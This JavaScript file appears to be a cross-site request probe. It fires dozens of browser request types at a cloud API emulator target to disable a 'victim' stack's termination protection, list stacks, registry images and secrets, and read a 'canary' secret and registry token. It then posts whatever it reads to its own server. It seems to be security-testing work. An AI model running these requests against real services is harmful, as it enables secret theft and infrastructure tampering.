// What a page can make a browser send, by the name of its kind. Each gets an address that carries the name, and may answer
// with what it could read. The page reports that, as {kind: text}, to its own server.

const read = {}
const wait = ms => new Promise(done => setTimeout(done, ms))
const add = (tag, fields, inner = '') => {
  const e = document.createElement(tag)
  for (const [k, v] of Object.entries(fields)) e.setAttribute(k, v)
  e.innerHTML = inner
  document.body.append(e)
  return e
}
const frame = (fields = {}) => add('iframe', fields)
const style = text => add('style', {}).append(text)

// text of an answer, where the browser shows it.
const body = async answer => answer.type === 'opaque' ? '' : `${answer.status} ${[...answer.headers].join('; ')} ${await answer.text()}`
const get = async (url, options) => body(await fetch(url, options))

const xhr = (method, url, fields = {}, content) => new Promise(done => {
  const x = new XMLHttpRequest()
  x.open(method, url)
  for (const [k, v] of Object.entries(fields)) x.setRequestHeader(k, v)
  x.onload = () => done(`${x.status} ${x.getAllResponseHeaders()} ${x.responseText}`)
  x.onerror = () => done('')
  x.send(content)
})

// form sends a form into a frame, and looks what came of it. One that is got has the fields of the address.
const form = async (url, method, enctype) => {
  const id = 'f' + Math.random()
  const into = frame({ name: id })
  const f = add('form', { id, action: url, method, enctype, target: id })
  for (const [name, value] of new URL(url).searchParams) add('input', { name, value, form: id })
  f.submit()
  await wait(500)
  return inside(into)
}

// inside reads a frame, as far as its origin lets this page.
const inside = f => { try { return f.contentDocument ? f.contentDocument.documentElement.textContent : '' } catch { return '' } }
const framed = async fields => { const f = frame(fields); await wait(500); return inside(f) }

// sandboxed runs a script in a frame without an origin (Origin: null).
const sandboxed = async script => { frame({ sandbox: 'allow-scripts allow-forms', srcdoc: `<body><script>${script}<\/script>` }); await wait(300); return '' }

const worker = script => new Promise(done => {
  const w = new Worker(URL.createObjectURL(new Blob([script])))
  w.onmessage = m => done(m.data)
  w.onerror = () => done('')
})

const heard = (source, close) => new Promise(done => {
  source.onmessage = m => done('message ' + m.data)
  source.onopen = () => done('open')
  source.onerror = () => { source.close(); done('') }
})

const json = target => ({ method: 'POST', headers: { 'X-Amz-Target': target, 'Content-Type': 'application/x-amz-json-1.1' }, body: '{}' })
const urlencoded = 'application/x-www-form-urlencoded'

const kinds = {
  // elements
  'img': u => { add('img', { src: u }) },
  'img without a referrer': u => { add('img', { src: u, referrerpolicy: 'no-referrer' }) },
  'img with credentials': u => { add('img', { src: u, crossorigin: 'use-credentials' }) },
  'img srcset': u => { add('img', { srcset: u + ' 1x' }) },
  'picture': u => { add('picture', {}, `<source srcset="${u.replaceAll('&', '&amp;')}"><img>`) },
  'input image': u => { add('input', { type: 'image', src: u }) },
  'script': u => { add('script', { src: u }); const s = document.createElement('script'); s.src = u; document.body.append(s) },
  'script module': u => { const s = document.createElement('script'); s.type = 'module'; s.src = u; document.body.append(s) },
  'import()': async u => Object.keys(await import(u)).join(),
  'import() of JSON': async u => JSON.stringify((await import(u, { with: { type: 'json' } })).default),
  'link stylesheet': u => { add('link', { rel: 'stylesheet', href: u }) },
  'link icon': u => { add('link', { rel: 'icon', href: u }) },
  'link preload': u => { add('link', { rel: 'preload', as: 'image', href: u }) },
  'link prefetch': u => { add('link', { rel: 'prefetch', href: u }) },
  'link modulepreload': u => { add('link', { rel: 'modulepreload', href: u }) },
  'link manifest': u => { document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: u })) },
  'iframe': u => framed({ src: u }),
  'iframe sandboxed': u => framed({ src: u, sandbox: 'allow-scripts' }),
  'embed': u => { add('embed', { src: u, type: 'text/html' }) },
  'object': u => { add('object', { data: u, type: 'text/html' }) },
  'video': u => { add('video', { src: u, preload: 'auto' }) },
  'video poster': u => { add('video', { poster: u }) },
  'audio': u => { add('audio', { src: u, preload: 'auto' }) },
  'svg image': u => { document.body.insertAdjacentHTML('beforeend', `<svg><image href="${u.replaceAll('&', '&amp;')}"/></svg>`) },
  'svg filter image': u => { document.body.insertAdjacentHTML('beforeend', `<svg><filter id="fi"><feImage href="${u.replaceAll('&', '&amp;')}"/></filter><rect width="9" height="9" filter="url(#fi)"/></svg>`) },
  'meta refresh in a frame': async u => framed({ srcdoc: `<meta http-equiv="refresh" content="0;url=${u.replaceAll('&', '&amp;')}">` }),
  // styles
  'css background': u => { style(`#bg{background:url("${u}")}`); add('p', { id: 'bg' }, 'x') },
  'css @import': u => { style(`@import url("${u}");`) },
  'css font': u => { style(`@font-face{font-family:stolen;src:url("${u}")}#fo{font-family:stolen}`); add('p', { id: 'fo' }, 'x') },
  'css list': u => { style(`#li{list-style:url("${u}")}`); add('ul', {}, '<li id="li">x</li>') },
  'css content': u => { style(`#co::before{content:url("${u}")}`); add('p', { id: 'co' }, 'x') },
  'css mask': u => { style(`#ma{mask-image:url("${u}");width:9px;height:9px}`); add('p', { id: 'ma' }, 'x') },
  'css border': u => { style(`#bo{border:3px solid;border-image:url("${u}") 1}`); add('p', { id: 'bo' }, 'x') },
  // forms
  'form GET': u => form(u, 'GET', urlencoded),
  'form POST': u => form(u, 'POST', urlencoded),
  'form POST multipart': u => form(u, 'POST', 'multipart/form-data'),
  'form POST text': u => form(u, 'POST', 'text/plain'),
  'form without an origin': u => sandboxed(`document.body.innerHTML='<form method=post action="${u}"></form>';document.forms[0].submit()`),
  // scripts
  'fetch': u => get(u),
  'fetch no-cors': u => get(u, { mode: 'no-cors' }),
  'fetch no-cors without a referrer': u => get(u, { mode: 'no-cors', referrerPolicy: 'no-referrer' }),
  'fetch no-cors POST': u => get(u, { mode: 'no-cors', method: 'POST', headers: { 'Content-Type': urlencoded }, body: new URL(u).search.slice(1) }),
  'fetch no-cors POST text': u => get(u, { mode: 'no-cors', method: 'POST', body: 'x=1' }),
  'fetch no-cors keepalive': u => get(u, { mode: 'no-cors', method: 'POST', keepalive: true }),
  'fetch no-cors with credentials': u => get(u, { mode: 'no-cors', credentials: 'include' }),
  'fetch POST': u => get(u, { method: 'POST', headers: { 'Content-Type': urlencoded } }),
  'fetch POST of JSON': u => get(u, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }),
  'fetch with a target': u => get(u, json('secretsmanager.ListSecrets')),
  'fetch PUT': u => get(u, { method: 'PUT', body: 'x' }),
  'fetch DELETE': u => get(u, { method: 'DELETE' }),
  'fetch PATCH': u => get(u, { method: 'PATCH', body: 'x' }),
  'fetch HEAD': u => get(u, { method: 'HEAD' }),
  'fetch of a range': u => get(u, { headers: { Range: 'bytes=0-100' } }),
  'fetch without an origin': u => sandboxed(`fetch("${u}",{mode:'no-cors',method:'POST'})`),
  'fetch from a data address': async u => { frame({ src: 'data:text/html,' + encodeURIComponent(`<script>fetch("${u}",{mode:'no-cors',method:'POST'})<\/script>`) }); await wait(300) },
  'fetch of a redirect': u => get('/redirect?to=' + encodeURIComponent(u), { mode: 'no-cors' }),
  'fetch of a redirect with its body': u => get('/redirect?to=' + encodeURIComponent(u), { mode: 'no-cors', method: 'POST', body: 'x=1' }),
  'img of a redirect': u => { add('img', { src: '/redirect?to=' + encodeURIComponent(u) }) },
  'form POST of a redirect': u => form(location.origin + '/redirect?to=' + encodeURIComponent(u), 'POST', urlencoded),
  'xhr': u => xhr('GET', u),
  'xhr POST': u => xhr('POST', u, { 'Content-Type': urlencoded }, 'x=1'),
  'xhr with a target': u => xhr('POST', u, { 'X-Amz-Target': 'AmazonSSM.GetParameter' }, '{}'),
  'xhr PUT': u => xhr('PUT', u, {}, 'x'),
  'beacon': u => { navigator.sendBeacon(u) },
  'beacon of a form': u => { navigator.sendBeacon(u, new URLSearchParams(new URL(u).search)) },
  'event source': u => heard(new EventSource(u)),
  'web socket': u => heard(new WebSocket(u.replace('http:', 'ws:'))),
  'worker fetch': u => worker(`fetch("${u}").then(a=>a.text()).then(postMessage,()=>postMessage(''))`),
  'worker no-cors': u => worker(`fetch("${u}",{mode:'no-cors',method:'POST'}).then(()=>postMessage(''),()=>postMessage(''))`),
  'worker importScripts': u => worker(`try{importScripts("${u}")}catch{};postMessage('')`),
  'worker module': u => worker(`import("${u}").then(()=>postMessage('loaded'),()=>postMessage(''))`),
  'ping': u => { const a = add('a', { href: '#', ping: u }, 'x'); a.click() },
  'window.open': async u => { const w = open(u); await wait(500); try { return w.document.documentElement.textContent } catch { return '' } },
  'navigation of a frame': async u => { const f = frame(); f.contentWindow.location = u; await wait(500); return inside(f) },
  'report of a policy': u => { frame({ src: '/policy?to=' + encodeURIComponent(u) }) },
}

// Where the page is of the same origin as the server, by a name that leads to it, a script may set and read everything.
const asSame = {
  'same: stacks': u => get(u),
  'same: stacks by a form': u => get(u, { method: 'POST', body: new URLSearchParams('Action=DescribeStacks&Version=2010-05-15') }),
  'same: secrets': u => get(u, json('secretsmanager.ListSecrets')),
  'same: a secret': u => get(u, { ...json('secretsmanager.GetSecretValue'), body: '{"SecretId":"canary"}' }),
  'same: token of the registry': u => get(u, json('AmazonEC2ContainerRegistry_V20150921.GetAuthorizationToken')),
  'same: clusters': u => get(u, json('AmazonEC2ContainerServiceV20141113.ListClusters')),
  'same: log groups': u => get(u, json('Logs_20140328.DescribeLogGroups')),
  'same: xhr': u => xhr('POST', u, { 'X-Amz-Target': 'secretsmanager.ListSecrets' }, '{}'),
  'same: DELETE': u => get(u, { method: 'DELETE' }),
  'same: PUT': u => get(u, { method: 'PUT', body: 'x' }),
  'same: PATCH': u => get(u, { method: 'PATCH', body: 'x' }),
  'same: HEAD': u => get(u, { method: 'HEAD' }),
  'same: OPTIONS': u => get(u, { method: 'OPTIONS' }),
  'same: frame': u => framed({ src: u }),
  'same: form POST': u => form(u, 'POST', urlencoded),
  'same: event source': u => heard(new EventSource(u)),
  'same: web socket': u => heard(new WebSocket(u.replace('http:', 'ws:'))),
  'same: worker': u => worker(`fetch("${u}").then(a=>a.text()).then(postMessage,()=>postMessage(''))`),
  'same: service worker': u => navigator.serviceWorker ? navigator.serviceWorker.register(u).then(() => 'registered') : '',
  'same: import()': async u => Object.keys(await import(u)).join(),
  'same: window.open': async u => { const w = open(u); await wait(500); try { return w.document.documentElement.textContent } catch { return '' } },
}

const page = new URLSearchParams(location.search)

// Each kind is tried with what would change something and with what would show something, at the API and at the registry.
const addresses = (name, target) => {
  const k = '&k=' + encodeURIComponent(name)
  return [
    `${target}/?Action=UpdateTerminationProtection&Version=2010-05-15&StackName=victim&EnableTerminationProtection=false` + k,
    `${target}/?Action=DescribeStacks&Version=2010-05-15` + k,
    `${target}/v2/_catalog?n=10` + k,
  ]
}

const all = page.has('same') ? asSame : kinds
await Promise.all(Object.entries(all).flatMap(([name, send]) => addresses(name, page.get('target')).map(async (u, i) => {
  try {
    const text = await Promise.race([send(u), wait(4000)])
    if (text) read[`${name} ${i}`] = text
  } catch { /* the browser keeps it from the page */ }
})))
await wait(500)
await fetch('/done', { method: 'POST', body: JSON.stringify({ read, tried: Object.keys(all) }) })
